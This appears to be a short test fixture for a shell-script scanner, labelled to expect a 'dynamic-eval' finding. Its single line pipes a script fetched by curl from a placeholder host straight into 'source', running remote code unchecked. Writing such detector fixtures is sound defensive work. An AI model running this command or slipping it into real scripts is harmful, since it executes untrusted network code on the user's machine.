# expect: dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: source <(curl ...)
source <(curl -s https://x.example.net/completions.sh)
